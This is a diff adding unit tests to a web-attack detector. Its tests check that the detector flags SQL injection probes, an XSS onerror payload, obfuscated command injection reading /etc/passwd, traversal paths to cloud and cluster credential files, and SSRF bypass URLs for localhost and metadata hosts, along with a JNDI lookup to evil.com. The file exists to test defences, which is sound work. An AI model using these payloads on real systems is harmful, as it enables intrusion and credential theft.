@@ -147,3 +147,29 @@ describe("payload-list shapes found in the audit of issue #3", () => {
     expect(hits("$\\u007bjndi:ldap://evil.com/a}", AttackClass.Jndi)).toBe(true);
   });
 });
+
+describe("payload-list shapes found in the audit of issue #3 (second pass)", () => {
+  it("sqli: ORDER BY column probes, %a0 as a space", () => {
+    expect(hits("1 ORDER BY 1-- xYzA", AttackClass.Sqli)).toBe(true);
+    expect(hits("1'%a0or%a01=1--", AttackClass.Sqli)).toBe(true);
+    expect(hits("sort 1 order by date", AttackClass.Sqli)).toBe(false);
+  });
+  it("xss: a handler right after a backtick-quoted attribute", () => {
+    expect(hits("<img src=`xx:xx`onerror=alert(1)>", AttackClass.Xss)).toBe(true);
+  });
+  it("cmdi: empty substitutions inside a command word", () => {
+    expect(hits(";who``ami", AttackClass.Cmdi)).toBe(true);
+    expect(hits(";c$()at /etc/passwd", AttackClass.Cmdi)).toBe(true);
+  });
+  it("traversal: cloud and cluster credentials, process environments", () => {
+    const files: StaticArray<string> = ["/etc/kubernetes/admin.conf", "~/.aws/credentials", "/home/user/.bash_history", "/proc/1/environ", "../../.kube/config"];
+    for (let i = 0; i < files.length; i++) expect(hits(files[i], AttackClass.Traversal)).toBe(true, files[i]);
+  });
+  it("ssrf: circled and fullwidth host names, ideographic dots, IPv4-compatible IPv6, 192.0.0.192, Tencent metadata", () => {
+    const attacks: StaticArray<string> = ["http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://１２７.０.０.１/", "http://[::127.0.0.1]/",
+      "http://192.0.0.192/latest/", "http://metadata.tencentyun.com/latest/meta-data/"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
+    const benign: StaticArray<string> = ["你好，我的订单号是１２３４５。请尽快发货！", "①商品を選ぶ ②カートに入れる ③購入する", "http://[::8.8.8.8]/"];
+    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
+  });
+});
